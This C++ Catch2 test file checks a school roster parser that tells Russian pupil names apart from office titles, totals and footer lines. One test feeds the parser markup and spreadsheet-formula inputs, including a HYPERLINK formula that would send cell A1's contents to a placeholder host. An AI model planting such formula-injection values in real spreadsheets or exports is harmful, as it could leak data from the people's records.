// SPDX-License-Identifier: GPL-3.0-or-later
#include "core/table/RowShapes.h"
#include "tests/support/Catch.h"

using namespace starosta;
using namespace starosta::table;
using namespace Qt::StringLiterals;

TEST_CASE("A full name is known by its shape")
{
    const QString name =
        GENERATE(as<QString>{}, u"Иванов Иван Иванович"_s, u"ИВАНОВ ИВАН"_s, u"Алиев Гейдар Мамед оглы"_s,
                 u"Иванова-Петрова Анна-Мария"_s, u"О’Нил Шон"_s, u"Директоров Пётр"_s, u"Всего Иван"_s,
                 u"Учеников Пётр"_s, u"Итоговский Иван"_s, u"Дети Анна"_s);
    CAPTURE(name);
    CHECK(readsAsName(name));
    CHECK(faultOf(name) == NameFault::none);
}

TEST_CASE("Offices, sums and figures are no names")
{
    const QString text =
        GENERATE(as<QString>{}, u"Завуч Петрова Анна Ивановна"_s, u"Директор школы"_s, u"Итого По Классу"_s,
                 u"Всего Учащихся"_s, u"Петров Пётр Петрович 2"_s, u"1 2"_s, u"Мальчиков: 2"_s, u"Дата: 01.09.2026"_s,
                 u"на 01.09.2026 прибыло 0"_s, u"Иванов Иван (выбыл)"_s, u"Иванов Иван Иванович, 01.02.2019"_s,
                 u"null null"_s, u"Нет данных"_s, u"Количество учащихся: 2"_s, u"1 «Б» класс"_s);
    CAPTURE(text);
    CHECK((faultOf(text) == NameFault::notAName || text.startsWith(u'1')));
    if (!text.startsWith(u"null")) // three letters are a name to whoever looks at the shape alone
        CHECK_FALSE((readsAsName(text) && faultOf(text) == NameFault::none));
}

TEST_CASE("Signs in a name are as they may be, figures inside a word are looked at")
{
    for (const QString &name : {u"<b>Иванов</b> Иван"_s, u"%1 Иван"_s, u"=1+1 Иван"_s, u"+7 (912) Иван Ильич"_s,
                                u"-5 Иван Ильич"_s, u"=HYPERLINK(\"http://x/?\"&A1) Иван Ильич"_s})
        CHECK(faultOf(name) == NameFault::none);
    for (const QString &name : {u"Иванов2 Иван"_s, u"Иванов иван"_s, u"Начальная школа"_s, u"Иванов, Иван"_s})
        CHECK(faultOf(name) == NameFault::doubtful);
}

TEST_CASE("What stands below a list is known by its words and figures")
{
    for (const QString &text : {u"Итого: 2"_s, u"мальчиков: 2"_s, u"Количество учащихся: 25"_s, u"Дата: 01.09.2026"_s,
                                u"на 01.09.2026 прибыло 0"_s, u"Всего детей 2, из них 2 мальчика"_s})
        CHECK(isFooter(text));
    for (const QString &text : {u"Мальчиков Иван"_s, u"Иванов Иван 2"_s, u"Всего Иван"_s, u"01.09.2026"_s})
        CHECK_FALSE(isFooter(text));
    CHECK(isTotal(u"Всего"));
    CHECK(isTotal(u"Всего по школе"));
    CHECK(isTotal(u"ИТОГО ПО КЛАССУ"));
    CHECK_FALSE(isTotal(u"Всего Иван"));
    CHECK(beginsWithOffice(u"Зам. директора"));
    CHECK(beginsWithOffice(u" секретарь"));
    CHECK_FALSE(beginsWithOffice(u"Директоров Пётр"));
}
